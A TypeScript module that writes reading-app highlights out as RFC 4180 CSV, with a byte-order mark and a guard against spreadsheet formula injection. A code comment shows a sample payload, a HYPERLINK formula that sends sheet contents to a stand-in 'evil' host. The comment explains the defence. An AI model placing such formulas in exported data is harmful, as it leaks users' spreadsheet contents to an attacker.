/**
 * toCsv: one row per highlight for spreadsheets, RFC 4180 (CRLF rows, quoted fields, quotes
 * doubled) with a UTF-8 byte-order mark, without which Excel reads "Київ" as mojibake.
 * A reading format, not a backup: cells are flattened and may be altered (see `safe`).
 */
import type { Highlight } from '../highlights/types';
import { outletName } from './markdown';

const HEADER = [
  'id',
  'created',
  'updated',
  'url',
  'title',
  'outlet',
  'quote',
  'prefix',
  'suffix',
  'start',
  'end',
  'note',
  'tags',
  'entities',
  'anchor status',
  'claims',
];

/**
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or tab / CR, which some
 * strip first) as a formula, so a page quote like `=HYPERLINK("http://evil/?"&A1)` could leak the
 * sheet or run commands on open. A leading apostrophe makes it text (OWASP's advice); the
 * apostrophe shows, which is the price of opening untrusted text in a spreadsheet safely.
 */
export const safe = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

const field = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);

const iso = (ms: number) => new Date(ms).toISOString();

function row(h: Highlight): string[] {
  // Numbers Parallax itself computes are not user text and are left unguarded; -1 (unknown) is blank.
  const known = h.position.start >= 0;
  return [
    safe(h.id),
    iso(h.created),
    iso(h.updated),
    safe(h.url),
    safe(h.title),
    safe(outletName(h)),
    safe(h.quote.exact),
    safe(h.quote.prefix),
    safe(h.quote.suffix),
    known ? String(h.position.start) : '',
    known ? String(h.position.end) : '',
    safe(h.note),
    safe(h.tags.join('; ')),
    safe(h.snapshot.entities.map((e) => e.name).join('; ')),
    h.anchor.status,
    String(h.snapshot.claims.length),
  ];
}

/** Rows (cells already guarded with `safe` where they hold outside text) as one CSV document. */
export function csvDocument(rows: string[][]): string {
  return `\uFEFF${rows.map((cells) => cells.map(field).join(',')).join('\r\n')}\r\n`;
}

export function toCsv(highlights: Highlight[]): string {
  return csvDocument([HEADER, ...highlights.map(row)]);
}
